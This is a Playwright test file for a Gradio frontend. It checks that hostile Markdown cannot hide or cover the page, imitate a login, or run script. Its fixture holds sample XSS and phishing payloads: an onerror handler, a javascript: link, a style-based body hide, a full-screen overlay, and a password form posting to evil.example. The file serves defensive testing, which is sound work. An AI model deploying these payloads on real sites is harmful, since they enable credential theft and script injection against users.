"""Hostile content on Gradio's frontend (issue 16.7): Markdown (and Chatbot, which shares its
renderer) goes through Gradio's sanitiser plus ours (js/frontend/sanitize.js): nothing in it can
style or cover the page, imitate a login form, or run script. gr.HTML stays the author's HTML."""
from playwright.sync_api import expect

from browser_helpers import open_app

HOSTILE = '''# Title
<style>body { display: none !important; }</style>
<form action="https://evil.example"><input type="password" name="p"><button>Log in</button></form>
<div id="cover" style="position:fixed;inset:0;background:red;z-index:9999">cover</div>
<img src="x" onerror="window.pwned = 1">
<a href="javascript:window.pwned=2">link</a>

- [x] a task list keeps its checkbox
'''

APP = f'''
import gradio as gr
HOSTILE = {HOSTILE!r}
with gr.Blocks() as demo:
    gr.Markdown(HOSTILE)
    gr.HTML('<div id="author" style="position:sticky;top:0">the author own</div>')
    gr.Textbox(label="After")
'''

CHECK = """() => {
  const m = document.querySelector('.lb-mount');
  const prose = m.querySelector('.prose');
  const cover = [...prose.querySelectorAll('div')].find(d => d.textContent === 'cover');
  return {
    styles: prose.querySelectorAll('style').length, forms: m.querySelectorAll('form').length,
    passwords: m.querySelectorAll('input[type=password]').length,
    coverPosition: getComputedStyle(cover).position,
    checkboxes: prose.querySelectorAll('input[type=checkbox]').length,
    author: getComputedStyle(document.getElementById('author')).position,
    pwned: window.pwned ?? null, body: getComputedStyle(document.body).display,
  };
}"""


def test_hostile_markdown_cannot_cover_or_imitate_the_page(context, lite_site):
    page = open_app(context, lite_site.app_url(APP))
    expect(page.get_by_role("heading", name="Title")).to_be_visible()
    page.get_by_text("link", exact=True).click()  # its javascript: href was dropped
    got = page.evaluate(CHECK)
    assert got == {"styles": 0, "forms": 0, "passwords": 0, "coverPosition": "static", "checkboxes": 1,
                   "author": "sticky", "pwned": None, "body": "block"}
    page.get_by_label("After").fill("still usable")  # nothing covers the rest of the app
    expect(page.get_by_label("After")).to_have_value("still usable")
